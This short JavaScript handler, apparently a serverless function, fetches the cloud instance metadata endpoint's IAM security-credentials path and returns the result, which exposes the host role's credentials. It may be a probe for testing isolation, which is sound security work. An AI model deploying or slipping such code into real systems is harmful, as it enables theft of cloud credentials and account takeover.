// Tries to read the cloud's instance metadata (credentials of the host's role).
exports.handler = async function() {
  const response = await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/');
  return response.text();
};
